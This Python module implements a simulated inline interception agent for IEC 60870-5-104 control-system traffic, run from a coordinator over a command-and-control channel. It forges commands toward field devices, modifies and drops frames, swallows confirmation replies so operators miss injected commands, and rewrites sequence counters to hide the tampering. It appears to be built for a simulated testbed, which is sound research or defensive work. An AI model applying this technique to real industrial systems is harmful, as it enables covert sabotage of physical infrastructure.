"""Inline interception agent.

Proxies one client<->server channel transparently, executes coordinator
actions (inject, modify, drop, collect, passthrough), and keeps the 15-bit
send/receive counters of both true endpoints consistent while frames are
added or removed.

Counter algebra. Each endpoint's next-expected receive counter equals the
genuine I-frames relayed to it plus the frames forged toward it. A
forwarded I-frame carries its origin's raw counters, so per direction:

  toward the RTU:  tx' = tx + inj_to_rtu - drop_to_rtu
                   rx' = rx - inj_to_mtu + drop_to_mtu
  toward the MTU:  tx' = tx + inj_to_mtu - drop_to_mtu
                   rx' = rx - inj_to_rtu + drop_to_rtu

A forged frame must arrive carrying exactly the destination's next-expected
value: tx = relayed + injected (in that direction), rx = I-frames observed
from the destination. The agent is one serialized event loop: frames and
actions are processed strictly in the order they are sent onward, so the
counts used for any frame match its true delivery order.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from random import Random
from typing import Optional

from . import c2
from . import iec104 as i104
from .c2 import TO_MTU, TO_RTU, Action, Forge, JsonChannel, Match
from .virtnet import PortHandle, SimClock, Stamp, StreamEnd, VirtualNetwork


@dataclass
class CorrectionState:
    """I-frame bookkeeping for one intercepted session, per direction."""

    fwd_to_rtu: int = 0  # genuine I-frames relayed toward the RTU
    fwd_to_mtu: int = 0
    inj_to_rtu: int = 0  # forged I-frames originated toward the RTU
    inj_to_mtu: int = 0
    drop_to_rtu: int = 0  # I-frames suppressed on their way to the RTU
    drop_to_mtu: int = 0
    correct_to_rtu: bool = True
    correct_to_mtu: bool = False

    @property
    def seen_from_mtu(self) -> int:
        return self.fwd_to_rtu + self.drop_to_rtu

    @property
    def seen_from_rtu(self) -> int:
        return self.fwd_to_mtu + self.drop_to_mtu

    def deltas(self, direction: str):
        """(tx_delta, rx_delta) to apply to a frame forwarded ``direction``."""
        inj = self.inj_to_rtu - self.drop_to_rtu
        inj_back = self.inj_to_mtu - self.drop_to_mtu
        if direction == TO_RTU:
            return inj, -inj_back
        return inj_back, -inj

    def injection_numbers(self, direction: str):
        """(tx, rx) a forged I-frame must carry toward ``direction``."""
        if direction == TO_RTU:
            return (self.fwd_to_rtu + self.inj_to_rtu) % i104.SEQ_MOD, self.seen_from_rtu % i104.SEQ_MOD
        return (self.fwd_to_mtu + self.inj_to_mtu) % i104.SEQ_MOD, self.seen_from_mtu % i104.SEQ_MOD


def correct_sequences(apdu: i104.Apdu, direction: str, state: CorrectionState) -> i104.Apdu:
    """Rewrite the TX/RX fields of an in-transit I- or S-frame.

    Identity when correction is disabled for ``direction`` or when the
    frame carries no sequence fields (U-frames).
    """
    enabled = state.correct_to_rtu if direction == TO_RTU else state.correct_to_mtu
    apci = apdu.apci
    if not enabled or apci.frame_kind == i104.FrameKind.U:
        return apdu
    tx_delta, rx_delta = state.deltas(direction)
    if tx_delta == 0 and rx_delta == 0:
        return apdu
    if apci.frame_kind == i104.FrameKind.S:
        return i104.Apdu(i104.Apci(i104.FrameKind.S, rx=i104.seq_add(apci.rx, rx_delta)))
    return i104.Apdu(
        i104.Apci(
            i104.FrameKind.I,
            tx=i104.seq_add(apci.tx, tx_delta),
            rx=i104.seq_add(apci.rx, rx_delta),
        ),
        apdu.asdu,
    )


def forge_apdu(forge: Forge, tx: int, rx: int) -> i104.Apdu:
    asdu = i104.Asdu(
        type_id=forge.type_id,
        cot=forge.cot,
        common_address=forge.common_address,
        objects=(i104.InformationObject(forge.ioa, value=forge.value, select=forge.select),),
    )
    return i104.i_frame(tx, rx, asdu)


@dataclass(frozen=True)
class AgentConfig:
    name: str
    target: str  # endpoint whose link this agent sits on
    c2_port: int = c2.C2_PORT
    correct_to_rtu: bool = True
    correct_to_mtu: bool = False  # default off: the raw counters stay visible upstream
    swallow_injected_replies: bool = False
    proc_delay: tuple = (0.001, 0.004)  # per-frame forwarding cost, uniform
    busy_delay: tuple = (0.05, 0.12)  # action/C2 handling cost, uniform
    heartbeat_period: float = 5.0
    heartbeat_jitter: float = 0.5


class MitmAgent:
    """One interception channel plus a coordinator listener, sharing a
    single serialized processing loop."""

    def __init__(
        self,
        clock: SimClock,
        net: VirtualNetwork,
        port: PortHandle,
        cfg: AgentConfig,
        rng: Optional[Random] = None,
    ):
        self.clock = clock
        self.net = net
        self.port = port
        self.cfg = cfg
        self.rng = rng or Random(0)
        self.mac = port.identity.mac
        self.state = CorrectionState(
            correct_to_rtu=cfg.correct_to_rtu, correct_to_mtu=cfg.correct_to_mtu
        )
        self.status = "Idle"
        self.events = []
        self.collected = []
        self.rules = []  # standing Modify/Drop/Collect actions
        self._mtu_end: Optional[StreamEnd] = None
        self._rtu_end: Optional[StreamEnd] = None
        self._buffers = {TO_RTU: i104.ApduStream(), TO_MTU: i104.ApduStream()}
        self._next_free = 0.0
        self._c2: Optional[JsonChannel] = None
        self._seen_seqs = set()
        self._swallow_keys = {}  # (type_id, ca, ioa) -> replies still to swallow
        self._hb_timer = None
        net.insert_inline(cfg.target, self)
        port.listen(cfg.c2_port, self._c2_accept)

    # -- serialized loop -----------------------------------------------------

    def _slot(self, cost: float) -> float:
        """Reserve processing time; returns the moment the work completes."""
        start = max(self.clock.now, self._next_free)
        self._next_free = start + cost
        return self._next_free

    def _proc_cost(self) -> float:
        return self.rng.uniform(*self.cfg.proc_delay)

    def _busy_cost(self) -> float:
        return self.rng.uniform(*self.cfg.busy_delay)

    # -- interception bootstrap ------------------------------------------------

    def on_intercepted_connect(self, end: StreamEnd, dst_port: int) -> None:
        if self._mtu_end is not None and self._mtu_end.is_open:
            end.close("busy")
            return
        self._mtu_end = end
        self._rtu_end = self.net.dial_inline(self.cfg.target, end.peer_claim, dst_port)
        self._buffers = {TO_RTU: i104.ApduStream(), TO_MTU: i104.ApduStream()}
        self.state = CorrectionState(
            correct_to_rtu=self.cfg.correct_to_rtu, correct_to_mtu=self.cfg.correct_to_mtu
        )
        self._swallow_keys = {}
        end.bind(
            lambda payload: self._on_channel_data(TO_RTU, payload),
            lambda reason: self._on_channel_close("mtu-side", reason),
        )
        self._rtu_end.bind(
            lambda payload: self._on_channel_data(TO_MTU, payload),
            lambda reason: self._on_channel_close("rtu-side", reason),
        )
        self.status = "Intercepting"
        self.events.append((self.clock.now, "channel intercepted"))

    def _on_channel_close(self, side: str, reason: str) -> None:
        self.events.append((self.clock.now, f"{side} closed: {reason}"))
        for end in (self._mtu_end, self._rtu_end):
            if end is not None and end.is_open:
                end.close(reason)
        self.status = "Idle"
        self._report({"event": "channel_closed", "side": side, "detail": reason})

    # -- data path ---------------------------------------------------------------

    def _out_end(self, direction: str) -> StreamEnd:
        return self._rtu_end if direction == TO_RTU else self._mtu_end

    def _on_channel_data(self, direction: str, payload: bytes) -> None:
        buf = self._buffers[direction]
        try:
            apdus = buf.feed(payload)
        except i104.DecodeError:
            # Not IEC-104: flush raw and pass through untouched.
            raw = buf.drain_raw()
            self.clock.call_at(self._slot(self._proc_cost()), self._send_raw, direction, raw)
            return
        for apdu in apdus:
            self.clock.call_at(self._slot(self._proc_cost()), self._relay, direction, apdu)

    def _send_raw(self, direction: str, raw: bytes) -> None:
        end = self._out_end(direction)
        if end is not None and end.is_open:
            end.send(raw)

    def _relay(self, direction: str, apdu: i104.Apdu) -> None:
        """Count, apply standing rules, correct, and forward one APDU.

        Runs inside the serialized loop at the frame's send slot, so counter
        state always matches the true onward delivery order.
        """
        end = self._out_end(direction)
        if end is None or not end.is_open:
            return
        is_i = apdu.apci.frame_kind == i104.FrameKind.I
        if is_i and self._should_swallow(direction, apdu.asdu):
            self._bump_drop(direction)
            self.events.append((self.clock.now, f"swallowed reply {direction}"))
            return
        if is_i and self._matches_rule(c2.KIND_DROP, direction, apdu.asdu):
            self._bump_drop(direction)
            self.events.append((self.clock.now, f"dropped frame {direction}"))
            return
        if is_i:
            rule = self._matches_rule(c2.KIND_MODIFY, direction, apdu.asdu)
            if rule:
                apdu = self._modify(apdu, rule)
            collect = self._matches_rule(c2.KIND_COLLECT, direction, apdu.asdu)
            if collect:
                self.collected.append((self.clock.now, direction, i104.encode(apdu).hex()))
            if direction == TO_RTU:
                self.state.fwd_to_rtu += 1
            else:
                self.state.fwd_to_mtu += 1
        out = correct_sequences(apdu, direction, self.state)
        end.send(i104.encode(out))

    def _bump_drop(self, direction: str) -> None:
        if direction == TO_RTU:
            self.state.drop_to_rtu += 1
        else:
            self.state.drop_to_mtu += 1

    def _matches_rule(self, kind: str, direction: str, asdu) -> Optional[Action]:
        for rule in self.rules:
            if rule.kind == kind and rule.direction == direction and rule.match.matches(asdu):
                return rule
        return None

    def _modify(self, apdu: i104.Apdu, rule: Action) -> i104.Apdu:
        asdu = apdu.asdu
        objects = tuple(
            i104.InformationObject(
                obj.ioa,
                value=rule.set_value if rule.set_value is not None else obj.value,
                quality=obj.quality,
                select=obj.select,
            )
            if rule.match.ioa in (None, obj.ioa)
            else obj
            for obj in asdu.objects
        )
        new_asdu = i104.Asdu(
            type_id=asdu.type_id,
            cot=asdu.cot,
            common_address=asdu.common_address,
            objects=objects,
            originator=asdu.originator,
            negative=asdu.negative,
            test=asdu.test,
        )
        return i104.Apdu(apdu.apci, new_asdu)

    def _should_swallow(self, direction: str, asdu) -> bool:
        if direction != TO_MTU or not isinstance(asdu, i104.Asdu):
            return False
        if asdu.cot not in (i104.COT_ACTIVATION_CON, i104.COT_ACTIVATION_TERM):
            return False
        key = (asdu.type_id, asdu.common_address, asdu.objects[0].ioa)
        left = self._swallow_keys.get(key, 0)
        if left <= 0:
            return False
        self._swallow_keys[key] = left - 1
        return True

    # -- actions -------------------------------------------------------------------

    def execute(self, action: Action, action_seq: Optional[int] = None) -> None:
        """Run one action at its fire time on the local clock."""
        fire_at = max(self.clock.now, action.at_time)
        self.status = "ActionPending"
        if action.kind == c2.KIND_INJECT:
            self.clock.call_at(fire_at, self._queue_injection, action, action_seq)
        else:
            self.clock.call_at(fire_at, self._apply_rule, action, action_seq)

    def _apply_rule(self, action: Action, action_seq) -> None:
        if action.kind == c2.KIND_PASSTHROUGH:
            self.rules = []
            self.events.append((self.clock.now, "rules cleared"))
        else:
            self.rules.append(action)
            self.events.append((self.clock.now, f"rule installed: {action.kind} {action.direction}"))
        self._done(action_seq, "ActionDone", action.kind)

    def _queue_injection(self, action: Action, action_seq) -> None:
        self.clock.call_at(self._slot(self._busy_cost()), self._inject, action, action_seq)

    def _inject(self, action: Action, action_seq) -> None:
        direction = action.direction
        end = self._out_end(direction)
        if end is None or not end.is_open:
            self._done(action_seq, "ActionFailed", "session down")
            return
        tx, rx = self.state.injection_numbers(direction)
        apdu = forge_apdu(action.forge, tx, rx)
        claim = end.claim
        end.send(i104.encode(apdu), src_stamp=Stamp(self.mac, claim.ip, claim.port))
        if direction == TO_RTU:
            self.state.inj_to_rtu += 1
        else:
            self.state.inj_to_mtu += 1
        if self.cfg.swallow_injected_replies and action.forge.cot == i104.COT_ACTIVATION:
            key = (action.forge.type_id, action.forge.common_address, action.forge.ioa)
            self._swallow_keys[key] = self._swallow_keys.get(key, 0) + 2  # ActCon + ActTerm
        self.events.append((self.clock.now, f"injected {direction} tx={tx} rx={rx}"))
        self._done(action_seq, "ActionDone", f"injected tx={tx}")

    def _done(self, action_seq, state: str, detail: str) -> None:
        self.status = state
        self._report({"action_seq": action_seq, "state": state, "detail": detail})
        self.status = "Intercepting" if self._mtu_end and self._mtu_end.is_open else "Idle"

    # -- coordinator channel ----------------------------------------------------------

    def _c2_accept(self, end: StreamEnd) -> None:
        self._c2 = JsonChannel(
            end,
            on_msg=self._on_c2_msg,
            on_close=lambda reason: self.events.append((self.clock.now, f"c2 closed: {reason}")),
        )
        self._schedule_heartbeat()

    def _on_c2_msg(self, msg: dict) -> None:
        # Message handling shares the same loop as forwarding, so every
        # coordinator exchange delays in-flight frames a little.
        self.clock.call_at(self._slot(self._busy_cost()), self._handle_c2, msg)

    def _handle_c2(self, msg: dict) -> None:
        if self._c2 is None:
            return
        mtype = msg.get("type")
        seq = msg.get("seq")
        if mtype == "hello":
            self._c2.send({"type": "hello", "body": {"agent": self.cfg.name, "state": self.status}})
            return
        if mtype != "action":
            return
        self._c2.send({"type": "ack", "reply_to": seq})
        if seq in self._seen_seqs:
            return  # retransmission: at-most-once execution
        self._seen_seqs.add(seq)
        self.execute(c2.action_from_dict(msg["body"]), action_seq=seq)

    def _report(self, body: dict) -> None:
        if self._c2 is not None:
            self._c2.send({"type": "status", "body": dict(body, state=body.get("state", self.status))})

    def _schedule_heartbeat(self) -> None:
        delay = self.cfg.heartbeat_period + self.rng.uniform(0.0, self.cfg.heartbeat_jitter)
        self._hb_timer = self.clock.call_later(delay, self._heartbeat)

    def _heartbeat(self) -> None:
        if self._c2 is None:
            return
        self.clock.call_at(self._slot(self._busy_cost()), self._send_heartbeat)
        self._schedule_heartbeat()

    def _send_heartbeat(self) -> None:
        if self._c2 is not None:
            self._c2.send(
                {"type": "heartbeat", "body": {"state": self.status, "collected": len(self.collected)}}
            )
